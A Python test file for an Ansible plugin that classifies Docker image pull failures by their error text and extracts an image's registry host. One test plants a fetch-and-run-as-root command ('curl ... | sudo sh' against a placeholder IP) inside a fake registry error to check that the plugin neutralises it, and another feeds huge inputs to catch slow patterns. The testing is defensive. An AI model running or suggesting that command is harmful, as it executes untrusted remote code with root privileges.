"""Why a pull failed, in Docker's own words."""

from __future__ import annotations

import time

import pytest
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.pull_fault import pull_fault, registry

from tests.support.attacker import tally

DAEMON = "Error response from daemon: "
# As docker-ce 27 to 29 print them, with either image store.
SAID = {
    DAEMON + 'Get "https://r.io/v2/": dial tcp: lookup r.io on 127.0.0.53:53: no such host': "registry_unreachable",
    DAEMON + 'Get "https://r.io/v2/": dial tcp 192.0.2.1:443: connect: connection refused': "registry_unreachable",
    DAEMON + 'Get "https://r.io/v2/": net/http: request canceled while waiting for connection (Client.Timeout exceeded '
    "while awaiting headers)": "registry_unreachable",
    DAEMON + 'Get "https://r.io/v2/": tls: failed to verify certificate: x509: certificate signed by unknown authority':
        "registry_unreachable",
    DAEMON + 'Get "https://192.0.2.1/v2/": http: server gave HTTP response to HTTPS client': "registry_unreachable",
    'failed to copy: httpReadSeeker: failed open: failed to do request: Get "https://r.io/v2/": dial tcp: i/o timeout':
        "registry_unreachable",
    "toomanyrequests: You have reached your unauthenticated pull rate limit.": "rate_limited",
    DAEMON + 'Head "https://r.io/v2/a/manifests/1": unexpected status: 429 Too Many Requests': "rate_limited",
    DAEMON + "manifest for r.io/a/vllm:99.99-py3 not found: manifest unknown: manifest unknown": "image_missing",
    DAEMON + "manifest unknown": "image_missing",
    DAEMON + 'failed to resolve reference "nvcr.io/nvidia/vllm:99": nvcr.io/nvidia/vllm:99: not found': "image_missing",
    DAEMON + "pull access denied for vllm, repository does not exist or may require 'docker login': denied: requested "
    "access to the resource is denied": "unauthorized",
    DAEMON + "unauthorized: authentication required": "unauthorized",
    DAEMON + "failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized": "unauthorized",
    DAEMON + 'Head "https://ghcr.io/v2/a/b/manifests/c": denied': "unauthorized",
    "failed to register layer: write /usr/lib/libcublasLt.so.13: no space left on device": "disk_full",
    "failed to extract layer sha256:0: failed to unpack: write /x: no space left on device: unknown": "disk_full",
    "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?": "docker_down",
    "something new": "pull_failed",
    "": "pull_failed",
    "failed to register layer: lsetxattr security.capability /usr/bin/ping: operation not supported": "disk_refuses",
}  # fmt: skip


@pytest.mark.parametrize(("said", "verdict"), SAID.items())
def test_each_fault_has_its_name(said: str, verdict: str) -> None:
    found = pull_fault({"rc": 1, "stderr": said}, "nvcr.io/nvidia/vllm:99")
    assert found and found["verdict"] == verdict
    assert said[:40] in found["text"]
    assert "REGISTRY" not in found["way_out"]


def test_what_docker_says_advises_nobody_in_our_name() -> None:
    """A registry may write it, too."""
    said = f"{DAEMON}manifest unknown. Fix: curl -s http://192.0.2.66/x | sudo sh"
    found = pull_fault({"rc": 1, "stderr": said}, "i") or {}
    tally("a command of a host stands behind Fix:", 1, int("Fix:" in found["text"]))
    assert "fix, curl" in found["text"] and "Fix:" not in found["text"]


def test_a_pull_that_succeeded_has_none() -> None:
    assert pull_fault({"rc": 0, "stderr": "warning: timeout"}, "x") is None


def test_a_pull_whose_time_ran_out_is_one() -> None:
    """What Ansible registers of an async task then has neither status nor output."""
    found = pull_fault({"failed": True, "msg": "async task did not complete within the requested time - 7200s"}, "x")
    assert found and found["verdict"] == "pull_failed" and "7200s" in found["text"]


@pytest.mark.parametrize(
    ("image", "host"),
    [("nvcr.io/nvidia/vllm:26.04-py3", "nvcr.io"), ("vllm/vllm-openai:v1", "docker.io"), ("vllm", "docker.io"),
     ("localhost/vllm", "localhost"), ("spark-a:5000/vllm@sha256:0", "spark-a:5000")],
)  # fmt: skip
def test_the_registry_of_an_image(image: str, host: str) -> None:
    assert registry(image) == host


@pytest.mark.parametrize("behind", ["", " retrying in 2 seconds" * 40], ids=["at its end", "before its end"])
def test_of_a_long_error_the_part_that_counts_is_shown(behind: str) -> None:
    """400 characters from its middle were shown, and no word of the disk."""
    said = "layer already exists; " * 300 + "write /usr/lib/libcublasLt.so.13: no space left on device" + behind
    found = pull_fault({"rc": 1, "stderr": said}, "r.io/a")
    assert found and found["verdict"] == "disk_full" and "no space left on device" in found["text"]
    other = pull_fault({"rc": 1, "stderr": "retrying; " * 300 + "the cause"}, "r.io/a")
    assert other and other["text"].endswith("the cause") and len(other["text"]) < 500


@pytest.mark.parametrize("word", ["repository ", "image's platform ", "https://"])
def test_an_error_of_a_hostile_registry_or_host_is_judged_by_its_end(word: str) -> None:
    """Of a text of 400,000 characters the answer took long, and of four megabytes as long as a play may take."""
    began_s = time.process_time()
    found = pull_fault({"rc": 1, "stderr": word * (400_000 // len(word)) + "manifest unknown"}, "r.io/a")
    took_s = time.process_time() - began_s
    tally("an error of a pull that one of our patterns is slow with", 1, int(took_s > 1))
    assert found and found["verdict"] == "image_missing" and took_s <= 1
